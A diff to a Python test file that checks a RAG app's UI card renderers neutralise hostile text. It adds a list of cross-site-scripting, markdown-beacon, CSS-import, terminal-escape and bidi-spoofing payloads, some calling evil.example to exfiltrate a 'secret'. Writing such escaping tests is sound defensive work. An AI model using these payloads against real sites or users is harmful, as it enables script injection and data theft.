@@ -2,13 +2,17 @@
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from selectolax.lexbor import LexborHTMLParser
 
 from ingest.errors import UnusableInput
+from ingest.schema import BlockKind, DocumentKind, Location, Passage
+from rag.schema import Answer, Channel, Citation, Claim, Hit, Status, Verdict
 from ui import cards
 from ui.suggest import asked_again
 from ui.uploads import keep_upload, safe_name
@@ -27,6 +31,56 @@ def test_no_text_becomes_markup(words: str) -> None:
         assert "<script" not in inside
         assert "<a" not in inside
         assert "\x1b" not in inside
+
+
+HOSTILE = [
+    "![x](http://evil.example/beacon.png?q=secret)",
+    "[click](javascript:alert(1))",
+    "<img src=http://evil.example/p.png onerror=alert(1)>",
+    "<script>fetch('http://evil.example')</script>",
+    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
+    '"><svg onload=alert(1)>',
+    "' onmouseover='alert(1)",
+    "<link rel=stylesheet href=//evil.example/a.css><style>@import url(//evil.example)</style>",
+    "\x1b[2J\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
+    "safe \u202egnp.exe\u202c \u2066x\u2069 \U000e0049\U000e0067 \u200bend",
+    "$\\href{javascript:alert(1)}{x}$ :material/home: :red[x]",
+]
+
+
+@pytest.mark.parametrize("words", HOSTILE)
+def test_hostile_words_stay_words_in_every_card(words: str) -> None:
+    place = Location(page=1, heading=(words,))
+    passage = Passage(words, words, DocumentKind.MANUAL, BlockKind.TABLE, place, f"{words} | {words}", context=words)
+    citation = Citation(1, 1, words, words, place, f"{words} | {words}", (), words)
+    hit = Hit(passage, 1.0, {Channel.LEXICAL: 1})
+    claim = Claim(words, (1,), Verdict.UNSUPPORTED, words)
+    answer = Answer("1", words, Status.ANSWERED, words, (citation,), (claim,), (), words, 1, {words: 1.0})
+    shown = "".join(
+        [
+            cards.text(words), cards.question(words), cards.draft(words), cards.quote(citation, passage),
+            cards.quote(citation, None), cards.source(citation), cards.row_line(words), cards.row_table(words),
+            cards.cell_table(f"{words} | {words}", f"{words}\n{words} | {words}"), cards.why_list([hit], [0]),
+            cards.left_out(answer), cards.made_by(answer), cards.timings(answer), cards.marked_text(words, words),
+            cards.status(answer), cards.waiting(words),
+        ]
+    )  # fmt: skip
+    page = LexborHTMLParser(shown)
+    assert not page.css("img, script, svg, math, style, link, iframe, object, a, form")
+    attributes = {name for node in page.css("*") for name in node.attributes}
+    assert attributes <= _ALLOWED
+    assert not set(shown) & set("\x1b\x07\u202e\u2066\u200b\U000e0049")
+    assert "".join(part for line in cards.sentences(words) for part, _ in line).isprintable()
+
+
+@given(st.text(alphabet=st.sampled_from("![]()<>*_`~$#|:\\ax\x1b\u202e")))
+def test_a_plain_label_has_no_sign_that_markdown_reads(words: str) -> None:
+    shown = cards.plain_label(words)
+    assert not re.search(r"(?<!\\)(?:\\\\)*[!\[\]()<>*_`~$#|:]", shown)
+    assert "\x1b" not in shown
+
+
+_ALLOWED = {"class", "role", "aria-hidden", "scope", "data-head", "tabindex"}
 
 
 def test_a_quote_is_marked_where_it_stands() -> None:
